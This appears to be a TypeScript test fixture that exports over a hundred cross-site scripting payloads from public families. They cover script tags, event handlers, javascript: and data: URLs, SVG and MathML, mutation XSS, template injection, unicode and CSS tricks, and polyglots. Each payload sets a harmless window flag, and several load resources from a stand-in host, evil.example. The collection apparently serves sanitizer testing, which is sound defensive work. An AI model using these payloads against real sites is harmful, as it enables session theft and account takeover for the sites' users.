/**
 * Payloads of well-known public families. Whatever runs sets `window.__xss`; nothing else is wanted of them. Each is
 * one line, so that it can stand in every field.
 */
const run = 'window.__xss=1';

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${run}</script>`,
  `<script/x>${run}</script/x>`,
  `<script>${run}//`,
  `<<script>${run}//<</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
];

const eventHandlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x:x onerror=&#119;indow.__xss=1>`,
  `<img/src=x/onerror=${run}//`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<img src onerror=${run}>`,
  `<img srcset=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'"><img src=x onerror=${run}>`,
  `" onerror="${run}" src="x`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}" x="`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<keygen autofocus onfocus=${run}>`,
  `<a autofocus onfocus=${run} tabindex=1>x</a>`,
  `<video src=x onerror=${run}></video>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<object data=x onerror=${run}></object>`,
  `<embed src=x onload=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<x onpointerrawupdate=${run}>x</x>`,
  `<div onanimationstart=${run} style="animation:x 1s">x</div>`,
  `<div ontransitionend=${run} style="transition:1s">x</div>`,
  `<dialog open onclose=${run}><form method=dialog></form></dialog>`,
  `<style onload=${run}></style>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>x</button>`,
  `<input type=image src=x onerror=${run}>`,
  `<image src=x onerror=${run}>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `javascript&colon;${run}`,
  `javascript://%0a${run}`,
  `javascript://example.com/%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" &#14; javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button form=f formaction="javascript:${run}">x</button>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<area href="javascript:${run}" shape=default>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:/a/-window.__xss//">`,
  `<base href=//evil.example/>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
];

const svgAndMath = [
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x"/></svg>`,
  `<svg><foreignObject><iframe onload=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg><image href=x onerror=${run}>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
];

/** Payloads whose second parse differs from the first. */
const mutations = [
  `<noscript><style></noscript><img src=x onerror=${run}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<template><script>${run}</script></template>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}{{$on.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{{=${run}}}`,
  `[[\${${run}}]]`,
  `{%if ${run}%}{%endif%}`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `__proto__`,
  `constructor`,
];

const codeContexts = [
  `';${run};//`,
  `";${run};//`,
  `\`;${run};//`,
  `\\';${run};//`,
  `'-${run}-'`,
  `');${run};//`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `*/${run}/*`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
];

const unicode = [
  `＜script＞${run}＜/script＞`,
  `<ſcript>${run}</ſcript>`,
  `<scrıpt>${run}</scrıpt>`,
  `\u200b<script>${run}</script>`,
  `\ufeff<img src=x onerror=${run}>`,
  `<img src=x onerror\u00a0=${run}>`,
  `<img\u3000src=x onerror=${run}>`,
  `\u202e<img src=x onerror=${run}>`,
  `\u2028${run}//`,
  `<a href="java\u00adscript:${run}">x</a>`,
];

const styles = [
  `<style>@import'javascript:${run}';</style>`,
  `<style>*{background:url("javascript:${run}")}</style>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div style="behavior:url(x.htc)">x</div>`,
  `<div style="background:url(//evil.example/x)">x</div>`,
  `";}*{background:url(//evil.example/x)}`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
];

const polyglots = [
  `jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=${run} )//--></stYle/</titLe/</scRipt/--!><sVg/oNloAd=${run}//>`,
  `"'--><svg onload=${run}><!--`,
  `'">><marquee><img src=x onerror=${run}></marquee>"</plaintext\\></|><plaintext/onmouseover=${run}>`,
  `';${run}//";${run}//--></script>">'><script>${run}</script>`,
  `</script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
];

export const payloads: readonly string[] = [
  ...scripts,
  ...eventHandlers,
  ...addresses,
  ...svgAndMath,
  ...mutations,
  ...templates,
  ...codeContexts,
  ...unicode,
  ...styles,
  ...polyglots,
];

/** All of them in as few groups as there can be when no group, joined to one text, is longer than this. */
export const grouped = (most: number): string[][] =>
  payloads.reduce<string[][]>((groups, payload) => {
    const last = groups.at(-1) ?? [];
    if (last.length > 0 && asText([...last, payload]).length <= most)
      return [...groups.slice(0, -1), [...last, payload]];
    return [...groups, [payload]];
  }, []);

export const asText = (group: readonly string[]): string => group.join(' ');
